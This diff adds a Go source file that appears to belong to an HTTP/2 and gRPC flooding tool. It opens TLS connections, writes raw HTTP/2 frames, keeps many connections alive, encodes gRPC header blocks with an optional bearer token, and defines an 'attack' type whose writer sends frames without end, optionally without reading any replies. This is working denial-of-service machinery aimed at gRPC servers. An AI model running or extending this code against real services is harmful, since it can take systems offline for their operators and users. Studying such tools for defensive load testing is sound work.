@@ -1,0 +1,160 @@
+// Connections of HTTP/2 whose frames the floods write themselves.
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"crypto/tls"
+	"encoding/base64"
+	"encoding/binary"
+	"net"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+const writeBytes = 32 * 1024
+
+// Frames are written through a buffer. Whoever reads them does it in a goroutine of its own.
+type connection struct {
+	*http2.Framer
+	conn *tls.Conn
+	out  *bufio.Writer
+	// Of the frame GOAWAY, once it came.
+	goAway string
+	// Things that the loop of this connection sent.
+	sent int64
+}
+
+// Opens a connection with the preface and these settings. Nil if that failed, which is counted.
+func (f *flood) open(settings ...http2.Setting) *connection {
+	conn := f.dialTLS(f.grpc, http2.NextProtoTLS)
+	if conn == nil {
+		return nil
+	}
+	out := bufio.NewWriterSize(conn, writeBytes)
+	c := &connection{Framer: http2.NewFramer(out, bufio.NewReaderSize(conn, writeBytes)), conn: conn, out: out}
+	_, err := out.WriteString(http2.ClientPreface)
+	if err == nil {
+		err = c.WriteSettings(settings...)
+	}
+	if err == nil {
+		err = out.Flush()
+	}
+	if err != nil {
+		f.closed(howEnded(err), conn)
+		return nil
+	}
+	return c
+}
+
+// Reads frames until the connection ends, closes it and says how it ended.
+func (c *connection) read(see func(http2.Frame)) string {
+	defer c.conn.Close()
+	for {
+		frame, err := c.ReadFrame()
+		if _, isOfStream := err.(http2.StreamError); isOfStream {
+			continue
+		}
+		if err != nil && c.goAway != "" {
+			return c.goAway
+		}
+		if err != nil {
+			return howEnded(err)
+		}
+		if goAway, is := frame.(*http2.GoAwayFrame); is {
+			c.goAway = "GOAWAY " + goAway.ErrCode.String()
+			if text := goAway.DebugData(); len(text) > 0 {
+				c.goAway += " (" + string(text) + ")"
+			}
+		}
+		if see != nil {
+			see(frame)
+		}
+	}
+}
+
+// A way to flood connections of HTTP/2.
+type attack struct {
+	connections int
+	settings    []http2.Setting
+	// What is sent, in the plural.
+	unit string
+	// Writes without end.
+	write func(*connection) error
+	// Whether nothing is read.
+	deaf bool
+	see  func(*connection, http2.Frame)
+}
+
+// Keeps the attack's connections until the flood ends.
+func (f *flood) attack(a attack) {
+	f.keep(f.connectionsOr(a.connections), func() {
+		c := f.open(a.settings...)
+		if c == nil {
+			return
+		}
+		var see func(http2.Frame)
+		if a.see != nil {
+			see = func(frame http2.Frame) { a.see(c, frame) }
+		}
+		ended := make(chan string, 1)
+		if !a.deaf {
+			go func() { ended <- c.read(see) }()
+		}
+		err := a.write(c)
+		if err == nil {
+			err = c.out.Flush()
+		}
+		f.add(a.unit, c.sent)
+		if a.deaf {
+			_ = c.conn.SetReadDeadline(time.Now().Add(time.Second))
+			go func() { ended <- c.read(nil) }()
+		}
+		how := <-ended
+		if how == net.ErrClosed.Error() {
+			how = howEnded(err)
+		}
+		f.closed(how, c.conn)
+	})
+}
+
+// Header blocks of calls of this connection.
+type blocks struct {
+	buffer  bytes.Buffer
+	encoder *hpack.Encoder
+	f       *flood
+}
+
+func newBlocks(f *flood) *blocks {
+	b := &blocks{f: f}
+	b.encoder = hpack.NewEncoder(&b.buffer)
+	return b
+}
+
+// The block of a call with this token. It holds until the next.
+func (b *blocks) next(token string) []byte {
+	b.buffer.Reset()
+	fields := [][2]string{
+		{":method", "POST"}, {":scheme", "https"}, {":path", b.f.method}, {":authority", b.f.grpc},
+		{"content-type", "application/grpc"}, {"te", "trailers"},
+	}
+	for _, field := range fields {
+		_ = b.encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
+	}
+	if token != "" {
+		_ = b.encoder.WriteField(hpack.HeaderField{Name: "authorization", Value: "Bearer " + token})
+	}
+	return b.buffer.Bytes()
+}
+
+// The request of the options as a message of gRPC.
+func (o *options) message() []byte {
+	request, err := base64.StdEncoding.DecodeString(o.request)
+	if err != nil {
+		fail(err)
+	}
+	message := binary.BigEndian.AppendUint32([]byte{0}, uint32(len(request)))
+	return append(message, request...)
+}
